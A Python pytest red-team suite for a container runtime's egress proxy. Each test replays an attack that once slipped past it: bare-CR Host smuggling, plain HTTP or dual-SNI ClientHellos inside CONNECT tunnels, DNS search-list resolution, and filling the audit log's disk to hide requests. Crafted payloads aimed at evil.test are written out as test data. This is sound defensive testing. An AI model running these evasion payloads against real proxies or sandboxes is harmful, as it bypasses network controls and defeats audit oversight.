"""Red team against egress by host name (seerun's own proxy): the container's code is hostile
and tries to reach a name the profile does not list through one it does, or to hide what it
did from the record.  Each test is an attack that worked on an earlier version.

The fixtures are test_egress.py's: names pinned to origins on the host's loopback (allowed
there with allowAddresses, as a site lists its mirror).  No traffic leaves this machine."""
import contextlib
import json
import os
import socket
import subprocess
import tempfile
import threading
import uuid

import pytest

from conftest import SEERUN, http_origin, wait_for
from test_egress import egress_policy, egress_lines, origin, proxied  # noqa: F401
from test_sandbox_egress import audit, policy_with, sandbox, secure_test_ca, secure_test_policy


@contextlib.contextmanager
def tcp_server(handle):
    """A server on the host's loopback that runs handle(connection) in a thread of its own
    for each client (and closes the connection after); yields its port."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)
    conns = []

    def one(c):
        with c:
            try:
                handle(c)
            except OSError:
                pass

    def accept():
        while True:
            try:
                c, _ = srv.accept()
            except OSError:
                return
            conns.append(c)
            threading.Thread(target=one, args=(c,), daemon=True).start()

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    try:
        yield srv.getsockname()[1]
    finally:
        srv.shutdown(socket.SHUT_RDWR)
        srv.close()
        for c in conns:
            c.close()
        t.join(5)


@pytest.fixture
def lenient_origin():
    """An origin that, as nginx, Node's llhttp and RFC 9112 2.2 ("SHOULD ignore at least one
    empty line received prior to the request-line") do, skips empty lines before a request and
    takes any method token; it serves by Host header, like a virtual-hosting front end."""
    def serve(c):
        c.settimeout(10)
        data = b""
        while b"\r\n\r\n" not in data.lstrip(b"\r\n"):
            got = c.recv(4096)
            if not got:
                return
            data += got
        head = data.lstrip(b"\r\n").split(b"\r\n\r\n")[0].decode("latin-1")
        lines = head.split("\r\n")
        parts = lines[0].split(" ")
        if len(parts) != 3 or not parts[2].startswith("HTTP/"):
            return
        host = [l.split(":", 1)[1].strip() for l in lines[1:] if l.lower().startswith("host:")]
        text = f"origin saw {parts[1]} host={host[0] if host else None}\n".encode()
        c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
                  % len(text) + text)

    with tcp_server(serve) as port:
        yield port


def test_a_bare_cr_in_a_forward_request_cannot_carry_a_second_host_header(proxied, origin):
    """Attack: a forward request to an allowed name whose head hides `Host: evil.test` behind
    a bare CR.  The proxy split lines at CRLF only and passed the header through; Python's
    http.server (email.feedparser), like other lenient parsers, ends a line at a bare CR and
    took the first Host, evil.test: a virtual host of the address that the profile does not
    list.  A bare CR (or any control byte but HTAB) in a request head is refused now."""
    s, b = proxied
    egress_policy(s, origin)
    cr = (f"GET http://allowed.test:{origin}/cr HTTP/1.1\\r\\nX-A: a\\rHost: evil.test\\r\\n"
          f"Host: allowed.test:{origin}\\r\\n\\r\\n")
    vt = (f"GET http://allowed.test:{origin}/vt HTTP/1.1\\r\\nHost: allowed.test:{origin}\\r\\n"
          "X-B: b\\013c\\r\\n\\r\\n")
    b.shell(f"""
        printf '{cr}' | nc 127.0.0.1 3128
        printf '{vt}' | nc 127.0.0.1 3128
        printf 'GET http://allowed.test:{origin}/ok HTTP/1.1\\r\\nX-C: tab\\there\\r\\n\\r\\n' |
          nc 127.0.0.1 3128
    """)
    r = s.cmd("run", "--bundle", b.write(), s.id())
    out = r.stdout
    assert "host=evil.test" not in out, out
    assert "origin saw /cr" not in out and "origin saw /vt" not in out, out
    # A horizontal tab in a value is fine (RFC 9110 5.5): the one lawful control byte.
    assert f"origin saw /ok host=allowed.test:{origin}" in out, out + r.stderr
    assert out.count("400 Bad Request") == 2, out
    # Both refusals are audited: the second, alike, is counted in egress.repeated.
    refused = [l for l in egress_lines(s) if not l["allowed"]]
    repeated = egress_lines(s, "egress.repeated")
    assert len(refused) + sum(l["repeated"] for l in repeated) == 2, s.audit()
    assert all("control character" in l["reason"] for l in refused + repeated), refused


@pytest.mark.parametrize("lead", [
    pytest.param("\\r\\n", id="crlf-before-the-request-line"),
    pytest.param("\\r\\n\\r\\n\\n", id="several-empty-lines"),
    pytest.param("", id="a-method-with-a-hyphen"),
])
def test_plain_http_in_a_tunnel_is_refused_after_empty_lines_or_with_any_method(
        proxied, lenient_origin, lead):
    """Attack: plain HTTP with `Host: evil.test` through a CONNECT tunnel to an allowed name,
    its request line after an empty line (which servers skip, RFC 9112 2.2), or with a method
    that is not all capital letters (`M-SEARCH`, `X_GET`: tokens nginx and others accept).  The
    proxy only recognised an upper-case method at the tunnel's very first byte and let the
    rest through as "another protocol"."""
    s, b = proxied
    port = lenient_origin
    egress_policy(s, port)
    method = "M-SEARCH" if lead == "" else "GET"
    req = (f"CONNECT allowed.test:{port} HTTP/1.1\\r\\n\\r\\n"
           f"{lead}{method} /fronted HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
    b.shell(f"printf '{req}' | nc 127.0.0.1 3128")
    r = s.cmd("run", "--bundle", b.write(), s.id())
    assert "origin saw /fronted" not in r.stdout, r.stdout
    assert "200 Connection established" in r.stdout, r.stdout + r.stderr
    lines = egress_lines(s)
    assert not [l for l in lines if l["allowed"]], lines
    refused = [l for l in lines if not l["allowed"]]
    assert refused and refused[0]["reason"].startswith("plain HTTP through a CONNECT tunnel"), \
        lines


NS_ORIGIN = r"""
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        t = f"origin saw {self.path} on {self.connection.getsockname()[0]}\n".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(t)))
        self.end_headers()
        self.wfile.write(t)
    def log_message(self, *a):
        pass
srv = http.server.ThreadingHTTPServer(("0.0.0.0", 0), H)
print(srv.server_address[1], flush=True)
srv.serve_forever()
"""


@contextlib.contextmanager
def netns(*ip_commands):
    """A network namespace of the test's own, lo up, set up with these `ip` commands; yields
    its name and removes it (and what runs in it is the caller's to end)."""
    name = "srt-egress-" + uuid.uuid4().hex[:8]
    subprocess.run(["ip", "netns", "add", name], check=True)
    try:
        subprocess.run(["ip", "-n", name, "-batch", "-"], text=True, check=True,
                       input="\n".join(["link set lo up", *ip_commands]) + "\n")
        yield name
    finally:
        subprocess.run(["ip", "netns", "del", name], check=True)


@contextlib.contextmanager
def running_in(name, script, *args):
    """A Python program in network namespace `name`; yields it once it has printed its first
    line (its marker: it is listening), with that line, and kills it after."""
    p = subprocess.Popen(["nsenter", f"--net=/run/netns/{name}", "/usr/bin/python3", "-c",
                          script, *args], stdout=subprocess.PIPE, text=True)
    try:
        yield p.stdout.readline().strip()
    finally:
        p.kill()
        p.wait()


@pytest.fixture
def own_netns():
    """A network namespace of the test's own, standing for the host: seerun runs in it (so
    its proxy connects out from it), and so does an origin listening on every address of it.
    Its addresses look public (100.128/16 and above are outside 100.64/10): 70 on its
    loopback interface, a whole /24 delivered locally by a `local` route (AnyIP), and one
    added while the container runs.  Nothing leaves the namespace: it has no route out."""
    cmds = ["route add local 100.129.0.0/24 dev lo"]
    cmds += [f"addr add 100.128.0.{i}/32 dev lo" for i in range(1, 71)]
    with netns(*cmds) as name, running_in(name, NS_ORIGIN) as port:
        yield name, int(port)


def run_in(ns, s, *args, resolv=None, timeout=60):
    """seerun in network namespace ns (and, with resolv, in a mount namespace of its own where
    that file is /etc/resolv.conf); stdio through a file, as Seerun.cmd (a detached container
    keeps the runtime's stdio open)."""
    argv = ["nsenter", f"--net=/run/netns/{ns}", SEERUN, *s.global_args, *args]
    if resolv:
        argv = ["unshare", "--mount", "--propagation", "slave", "sh", "-c",
                'mount --bind "$1" /etc/resolv.conf && shift && exec "$@"', "sh", resolv, *argv]
    with tempfile.TemporaryFile("w+") as out:
        p = subprocess.run(argv, stdout=out, stderr=out, text=True, timeout=timeout,
                           stdin=subprocess.DEVNULL)
        out.seek(0)
        return p.returncode, out.read()


def test_every_address_of_the_host_is_refused_not_only_the_first_64_listed_at_start(
        proxied, own_netns):
    """Attack: a name (here pinned; as well a DNS answer) that leads to the host's own address,
    where its other services listen.  The proxy listed the host's addresses once, at its start,
    at most 64 of them, from the interfaces: the 65th address of a host with many (a
    Kubernetes node's kube-ipvs0 holds every service address), an address reached through a
    `local` route (AnyIP, no interface lists it), and an address the host gets while the
    container runs (DHCP, IPv6 privacy addresses renewed every day) were not the host's to it.
    The host's own is now what the kernel would deliver locally, asked per request."""
    netns, port = own_netns
    s, b = proxied
    with open(s.policy) as f:
        policy = json.load(f)
    names = {"first.test": "100.128.0.1", "seventieth.test": "100.128.0.70",
             "anyip.test": "100.129.0.9", "later.test": "100.130.0.1"}
    policy["profiles"]["default"].setdefault("network", {}).update({"proxy": True, "egress": {
        "allow": [f"{n}:{port}" for n in names], "pins": names}})
    with open(s.policy, "w") as f:
        json.dump(policy, f)
    b.args("sleep", "60")
    cid = s.id()
    rc, said = run_in(netns, s, "run", "--detach", "--bundle", b.write(), cid)
    assert rc == 0, said
    # The host gets an address while the container runs.
    subprocess.run(["ip", "-n", netns, "addr", "add", "100.130.0.1/32", "dev", "lo"], check=True)
    script = "; ".join(f"wget -q -O - http://{n}:{port}/{n} 2>&1 | tail -1" for n in names)
    r = s.cmd("exec", cid, "sh", "-c", script)
    out = r.stdout
    assert "origin saw" not in out, out
    assert out.count("403 Forbidden") == 4, out + r.stderr
    lines = egress_lines(s)
    assert {l["host"]: (l["allowed"], l["reason"]) for l in lines} == {
        n: (False, f"{a} is an address of this host") for n, a in names.items()}, lines


DNS_SERVER = r"""
import socket, struct, sys
answers = dict(a.split("=") for a in sys.argv[2:])
log = open(sys.argv[1], "a", buffering=1)
srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
srv.bind(("127.0.0.1", 53))
print("ready", flush=True)
while True:
    q, peer = srv.recvfrom(512)
    qid, flags = struct.unpack(">HH", q[:4])
    i, labels = 12, []
    while q[i]:
        labels.append(q[i + 1:i + 1 + q[i]].decode())
        i += 1 + q[i]
    name = ".".join(labels).lower()
    qtype = struct.unpack(">H", q[i + 1:i + 3])[0]
    question = q[12:i + 5]
    log.write(f"{name} {qtype}\n")
    a = answers.get(name)
    rcode = 0 if a else 3
    an = b""
    if a and qtype == 1:
        an = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 5, 4) + socket.inet_aton(a)
    srv.sendto(struct.pack(">HHHHHH", qid, 0x8180 | rcode, 1, 1 if an else 0, 0, 0)
               + question + an, peer)
"""


def test_a_name_is_resolved_as_itself_never_through_the_resolvers_search_list(
        proxied, tmp_path):
    """Attack: a name below an allowed `*.domain` that does not exist.  The proxy resolved
    the name relative, as getaddrinfo does with a resolv.conf `search` list: after NXDOMAIN
    (or first, under `ndots:5`, as here and on Kubernetes) it asked for
    nx.wild.test.corp.test, another name that nobody allowed, and connected to where that
    led.  A name with a dot is resolved as absolute now.

    The resolver is the test's: a DNS server on 127.0.0.1:53 in a network namespace of the
    test's own, where seerun runs, with a resolv.conf of the test's bound over /etc/resolv.conf
    in a mount namespace of its own; it also shows which names the proxy asked for."""
    queries = tmp_path / "queries"
    queries.touch()
    resolv = tmp_path / "resolv.conf"
    resolv.write_text("nameserver 127.0.0.1\nsearch corp.test\noptions ndots:5 attempts:1\n")
    with netns() as ns, running_in(ns, DNS_SERVER, str(queries),
                                    "nx.wild.test.corp.test=127.0.0.1",
                                    "real.wild.test=127.0.0.1"), \
            running_in(ns, NS_ORIGIN) as port:
        s, b = proxied
        egress_policy(s, int(port))
        b.shell(f"""
            wget -q -O - http://real.wild.test:{port}/real 2>&1 | tail -1
            wget -q -O - http://nx.wild.test:{port}/searched 2>&1 | tail -1
            wget -q -O - http://secret-4242.evil.test:{port}/x 2>&1 | tail -1
        """)
        rc, out = run_in(ns, s, "run", "--bundle", b.write(), s.id(), resolv=str(resolv))
    asked = queries.read_text().split("\n")
    assert "origin saw /real on 127.0.0.1" in out, out
    assert "origin saw /searched" not in out, out
    assert "502 Bad Gateway" in out, out
    names = {q.split()[0] for q in asked if q}
    # Only the names judged allowed reach the resolver: none of the search list's, and a
    # refused name (a DNS channel for data) never.
    assert names == {"real.wild.test", "nx.wild.test"}, asked
    lines = {l["host"]: l for l in egress_lines(s)}
    assert lines["nx.wild.test"]["allowed"] is False, lines
    assert lines["nx.wild.test"]["reason"] == "the name does not resolve", lines


@pytest.fixture
def sink():
    """An origin that takes whatever it is sent and never closes first (as a server of the
    container's own may): yields its port and a function giving how many bytes it has."""
    got = [0]
    done = threading.Event()

    def serve(c):
        while True:
            data = c.recv(65536)
            if not data:
                done.wait(30)  # the client is done: the socket stays open all the same
                return
            got[0] += len(data)

    try:
        with tcp_server(serve) as port:
            yield port, lambda: got[0]
    finally:
        done.set()


def test_the_bytes_of_a_tunnel_open_when_the_container_stops_are_counted(proxied, sink):
    """Attack: upload through a tunnel and never close it (the origin, the container's own,
    does not close either).  The record counts a tunnel's bytes when it closes: the proxy was
    killed when the container stopped, with the tunnel still open, so the upload showed as an
    allowed request with no egress.close and 0 bytes up in the result.  The proxy now closes
    what is open when the container stops and reports it before it ends."""
    port, received = sink
    s, b = proxied
    egress_policy(s, port)
    size = 1 << 20
    b.shell(f"""{{ printf 'CONNECT allowed.test:{port} HTTP/1.1\\r\\n\\r\\n';
                  head -c {size} /dev/zero; exec sleep 3600; }} | nc 127.0.0.1 3128 >/dev/null""")
    cid = s.id()
    s.cmd("run", "--detach", "--bundle", b.write(), cid, check=True)
    wait_for(lambda: received() >= size, what="the upload to reach the origin")
    s.cmd("delete", "--force", cid, check=True)
    closes = wait_for(lambda: egress_lines(s, "egress.close"), what="an egress.close line")
    assert closes[0]["host"] == "allowed.test" and closes[0]["bytesUp"] >= size, closes
    allowed = [l for l in egress_lines(s) if l["allowed"]]
    assert len(allowed) == 1 and allowed[0]["request"] == closes[0]["request"], allowed


@pytest.fixture
def tls_vhosts(tmp_path):
    """An HTTPS server for secure.test that, as a CDN does, serves whichever site the Host
    header inside TLS names (it says which)."""
    d = secure_test_ca(tmp_path)
    with http_origin(lambda r: f"origin {r.path} host={r.headers.get('Host')}\n",
                     tls=(str(d / "cert.pem"), str(d / "key.pem"))) as port:
        yield port, d


FRONT = """
import http.client, ssl, sys
ctx = ssl.create_default_context(cafile="/ca/cert.pem")
c = http.client.HTTPSConnection("127.0.0.1", 3128, context=ctx, timeout=10)
c.set_tunnel("secure.test", int(sys.argv[1]))
c.request("GET", "/fronted", headers={"Host": "evil.test"})
print(c.getresponse().read().decode().strip())
"""


@pytest.mark.xfail(strict=True, reason="the proxy does not terminate TLS: inside a tunnel to an "
                   "allowed name, with that name as the TLS server name, the Host header (or "
                   "HTTP/2's :authority, or an ECH inner ClientHello) may name any other site "
                   "the same server serves; documented in contrib/policy/README.md")
def test_an_allowed_name_on_a_shared_server_cannot_front_for_another(hardened, tmp_path,
                                                                     tls_vhosts):
    port, ca = tls_vhosts
    path = secure_test_policy(hardened, tmp_path, port)
    r = sandbox(hardened, str(path), tmp_path, "--network", "--ro", f"{ca}:/ca",
                command=("python3", "-c", FRONT, str(port)))
    assert "origin /fronted" in r.stdout, r.stdout + r.stderr  # the tunnel itself works
    assert "host=evil.test" not in r.stdout, r.stdout


def hello(ext):
    """A TLS ClientHello record with these extensions (bytes, each type+length+data)."""
    body = (b"\x03\x03" + b"\x07" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
            + len(ext).to_bytes(2, "big") + ext)
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(hs).to_bytes(2, "big") + hs


def sni_ext(*names):
    """A server_name extension listing these host names, in order."""
    entries = b"".join(b"\x00" + len(n).to_bytes(2, "big") + n for n in names)
    lst = len(entries).to_bytes(2, "big") + entries
    return b"\x00\x00" + len(lst).to_bytes(2, "big") + lst


def through_a_tunnel(proxied, origin, first):
    """A container sends `first` through a tunnel to allowed.test; the egress lines, once it
    is checked that none allowed it."""
    s, b = proxied
    egress_policy(s, origin)
    esc = "".join(f"\\x{c:02x}" for c in first)
    b.shell(f"""printf 'CONNECT allowed.test:{origin} HTTP/1.1\\r\\n\\r\\n{esc}' |
               nc 127.0.0.1 3128 | head -1""")
    r = s.cmd("run", "--bundle", b.write(), s.id())
    assert "200 Connection established" in r.stdout, r.stdout + r.stderr
    lines = egress_lines(s)
    assert not [l for l in lines if l["allowed"]], lines
    return lines


@pytest.mark.parametrize("ext", [
    pytest.param(sni_ext(b"allowed.test", b"evil.test"), id="two-names-in-one-list"),
    pytest.param(sni_ext(b"allowed.test") + sni_ext(b"evil.test"), id="two-server-name-extensions"),
])
def test_a_client_hello_with_a_second_server_name_is_refused(proxied, origin, ext):
    """Attack: a ClientHello naming the CONNECT host first and another name second, in the one
    server_name list (RFC 6066 allows one host_name) or in a second server_name extension
    (RFC 8446 4.2 forbids duplicates).  The proxy judged the first name; a server that takes
    the last reads the other.  What two readers can read two ways is refused."""
    lines = through_a_tunnel(proxied, origin, hello(ext))
    assert [l["reason"] for l in lines] == ["a malformed TLS ClientHello"], lines


FLOOD = """
import socket, sys
held = [socket.create_connection(("127.0.0.1", 3128)) for _ in range(int(sys.argv[1]))]
c = socket.create_connection(("127.0.0.1", 3128))
c.sendall(f"GET http://index.test:{sys.argv[2]}/flood HTTP/1.0\\r\\n\\r\\n".encode())
print(c.recv(200).decode().splitlines()[0])
"""


def test_a_request_turned_away_at_the_connection_limit_is_audited(hardened, tmp_path):
    """Attack: hold the proxy's 256 connections open, idle, and make requests past them: each
    got a 503 that no egress line recorded, so requests the container made were missing from
    the audit log and the result document (`requests`)."""
    policy = policy_with(hardened, tmp_path, 9)
    r = sandbox(hardened, policy, tmp_path, "--network",
                command=("python3", "-c", FLOOD, "256", "9"))
    assert "503 Service Unavailable" in r.stdout, r.stdout + r.stderr
    lines = audit(policy)
    turned = [l for l in lines if l.get("event") in ("egress", "egress.repeated")
              and l["reason"] == "too many connections at once"]
    assert turned and not turned[0]["allowed"], [l for l in lines if "egress" in l["event"]]
    assert r.result["egress"]["refused"] >= 1, r.result["egress"]


def record_version(rec, version):
    return rec[:1] + version + rec[3:]


@pytest.mark.parametrize("first", [
    pytest.param(record_version(hello(sni_ext(b"evil.test")), b"\x00\x00"),
                 id="a-hello-in-a-record-of-version-0"),
    pytest.param(b"\x15\x03\x03\x00\x02\x01\x5a" + hello(sni_ext(b"evil.test")),
                 id="a-warning-alert-before-the-hello"),
])
def test_a_client_hello_in_an_odd_record_is_judged_not_passed_as_another_protocol(
        proxied, origin, first):
    """Attack: a ClientHello naming evil.test through a tunnel to allowed.test, in a record
    whose version is not 3.x (RFC 8446 5.1: the record version "MUST be ignored for all
    purposes", and Go's crypto/tls reads a first record of any version), or after a warning
    alert (which Go drops before the handshake).  The proxy took both for "another protocol"
    and let them through unjudged."""
    lines = through_a_tunnel(proxied, origin, first)
    assert len(lines) == 1 and lines[0]["reason"] in (
        "the TLS server name differs from the CONNECT host: evil.test",
        "a malformed TLS ClientHello"), lines


@pytest.fixture
def banner_origin():
    """A server that speaks first: 64 KiB of banner, then whatever comes back is ignored."""
    def serve(c):
        c.sendall(b"B" * 65536)
        c.settimeout(10)
        while c.recv(65536):
            pass

    with tcp_server(serve) as port:
        yield port


BANNER_THEN_HELLO = """
import socket, sys
port, hello = int(sys.argv[1]), bytes.fromhex(sys.argv[2])
c = socket.create_connection(("127.0.0.1", 3128))
c.sendall(f"CONNECT index.test:{port} HTTP/1.1\\r\\n\\r\\n".encode())
got = b""
while got.count(b"B") < 65536:
    more = c.recv(65536)
    if not more:
        break
    got += more
print("banner", got.count(b"B"))
c.sendall(hello)
while c.recv(65536):
    pass
"""


def test_what_a_server_sent_before_a_tunnel_was_refused_is_counted(hardened, tmp_path,
                                                                    banner_origin):
    """Attack: a tunnel to an allowed name whose server speaks first; its bytes reach the
    container while the proxy waits for the client's first ones, which then name another host
    and are refused.  The refusal carried no bytes and no egress.close came: 64 KiB had come
    in that no record counted.  A tunnel refused after connecting is closed as any other now,
    with what went each way."""
    port = banner_origin
    policy = policy_with(hardened, tmp_path, port)
    h = hello(sni_ext(b"evil.test")).hex()
    r = sandbox(hardened, policy, tmp_path, "--network",
                command=("python3", "-c", BANNER_THEN_HELLO, str(port), h))
    assert "banner 65536" in r.stdout, r.stdout + r.stderr
    lines = audit(policy)
    refused = [l for l in lines if l.get("event") == "egress" and not l["allowed"]]
    assert refused and refused[0]["reason"].startswith("the TLS server name differs"), \
        [l for l in lines if "egress" in l["event"]]
    closes = [l for l in lines if l.get("event") == "egress.close"]
    assert closes and closes[0]["request"] == refused[0]["request"], \
        [l for l in lines if "egress" in l["event"]]
    assert closes[0]["bytesDown"] >= 65536 and closes[0]["allowed"] is False, closes
    assert r.result["egress"]["bytesDown"] >= 65536, r.result["egress"]


@contextlib.contextmanager
def audit_log_on_a_tmpfs(s):
    """The audit log's directory on a tmpfs of the test's own; yields fail() and mend(), which
    make it refuse writes (read-only, as a full disk would: no line goes in) and take them
    again.  What was logged is put back on the test's directory at the end."""
    d = os.path.dirname(s.audit_log)
    os.makedirs(d, exist_ok=True)
    kept = {n: open(os.path.join(d, n), "rb").read() for n in os.listdir(d)}
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m,mode=0755", "srt-audit", d],
                   check=True)
    remount = lambda how: subprocess.run(["mount", "-o", f"remount,{how}", d], check=True)
    try:
        for n, data in kept.items():
            with open(os.path.join(d, n), "wb") as f:
                f.write(data)
        yield lambda: remount("ro"), lambda: remount("rw")
    finally:
        logged = {n: open(os.path.join(d, n), "rb").read() for n in os.listdir(d)}
        subprocess.run(["umount", d], check=True)
        for n, data in logged.items():
            with open(os.path.join(d, n), "wb") as f:
                f.write(data)


def fetch_while_the_audit_log_is_full(s, b, port, tmp_path):
    """A container fetches from an allowed name while the audit log cannot be written (it
    waits for the test's marker in a directory bound in, and leaves what it got there);
    returns what the fetch got and the container's egress record at its end."""
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o777)
    b.config["mounts"].append({"destination": "/shared", "type": "bind", "source": str(shared),
                               "options": ["rbind", "rw"]})
    b.shell(f"""while [ ! -e /shared/go ]; do sleep 0.02; done
                wget -q -O /shared/got http://allowed.test:{port}/unaudited
                touch /shared/done; exec sleep 60""")
    cid = s.id()
    with audit_log_on_a_tmpfs(s) as (fail, mend):
        s.cmd("run", "--detach", "--bundle", b.write(), cid, check=True)
        state = os.path.join(s.root, cid)
        fail()
        (shared / "go").touch()
        wait_for(lambda: (shared / "done").exists(), what="the container's fetch")
        # Stopped with no seerun command (kill would refuse: it too writes the audit log).
        os.kill(json.load(open(os.path.join(state, "state.json")))["pid"], 9)
        record = wait_for(lambda: os.path.exists(os.path.join(state, "egress.json")) and
                          json.load(open(os.path.join(state, "egress.json"))),
                          what="the egress record")
        mend()  # the record is written: the supervisor writes no more egress lines
        s.cmd("delete", "--force", cid, check=True)
    got = (shared / "got").read_text() if (shared / "got").exists() else ""
    return got, record


def test_the_record_says_when_egress_lines_could_not_be_written(proxied, origin, tmp_path):
    """The egress record counts the lines the audit log did not take (`auditFailed`): it said
    nothing, although the supervisor knew."""
    s, b = proxied
    egress_policy(s, origin)
    out, record = fetch_while_the_audit_log_is_full(s, b, origin, tmp_path)
    assert "origin saw /unaudited" in out, out
    assert record.get("auditFailed", 0) >= 1, record


@pytest.mark.xfail(strict=True, reason="the proxy reports a decision to the supervisor and "
                   "connects without waiting for its audit line to be written: with the audit "
                   "log's filesystem full (which distinct refused requests can bring about over "
                   "time), egress goes on unaudited; the record counts it (auditFailed). "
                   "Documented in contrib/policy/README.md")
def test_no_egress_is_made_that_the_audit_log_could_not_take(proxied, origin, tmp_path):
    """Attack: fill the disk of the audit log (distinct refused requests are each written),
    then make the requests that should be seen."""
    s, b = proxied
    egress_policy(s, origin)
    out, record = fetch_while_the_audit_log_is_full(s, b, origin, tmp_path)
    lines = [l for l in egress_lines(s) if l["host"] == "allowed.test"]
    assert "origin saw /unaudited" not in out or lines, (out, record)
